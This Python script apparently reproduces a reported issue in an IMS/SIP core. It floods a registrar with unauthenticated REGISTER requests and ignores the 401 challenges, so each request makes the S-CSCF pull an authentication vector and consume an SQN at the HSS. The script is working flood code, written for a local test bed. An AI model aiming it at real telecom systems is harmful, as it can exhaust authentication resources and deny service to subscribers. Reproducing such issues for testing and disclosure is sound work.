#!/usr/bin/env python3
"""Sends N initial REGISTERs without credentials to a registrar over UDP
(each one makes the S-CSCF ask the HSS for a vector: one SQN consumed) and
never answers the 401s: the unauthenticated client of issue 16 item 1.
Keeps at most WINDOW in flight; prints how many 401s came back.
Usage: register_flood.py IP PORT IMPU REALM N [WINDOW]"""
import socket
import sys
import time


def main():
    ip, port, impu, realm, n = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5])
    window = int(sys.argv[6]) if len(sys.argv) > 6 else 32
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    s.settimeout(0.5)
    lport = s.getsockname()[1]
    sent = got = 0
    deadline = time.monotonic() + 120
    while got < n and time.monotonic() < deadline:
        while sent < n and sent - got < window:
            msg = (f"REGISTER sip:{realm} SIP/2.0\r\n"
                   f"Via: SIP/2.0/UDP 127.0.0.1:{lport};branch=z9hG4bKflood{sent}\r\n"
                   f"Max-Forwards: 70\r\nFrom: <{impu}>;tag=f{sent}\r\nTo: <{impu}>\r\n"
                   f"Call-ID: flood-{sent}@127.0.0.1\r\nCSeq: 1 REGISTER\r\n"
                   f"Contact: <sip:flood@127.0.0.1:{lport}>\r\nExpires: 600\r\n"
                   f"Content-Length: 0\r\n\r\n")
            s.sendto(msg.encode(), (ip, port))
            sent += 1
        try:
            data = s.recv(65535)
        except socket.timeout:
            sent = got  # lost in the load: send those again
            continue
        if data.startswith(b"SIP/2.0 1"):
            continue  # 100 Trying
        if data.startswith(b"SIP/2.0 401"):
            got += 1
        elif data.startswith(b"SIP/2.0 "):
            print("unexpected:", data.split(b"\r\n", 1)[0].decode(errors="replace"))
            return 1
    print(f"{got} challenges for {sent} REGISTERs")
    return 0 if got >= n else 1


if __name__ == "__main__":
    sys.exit(main())
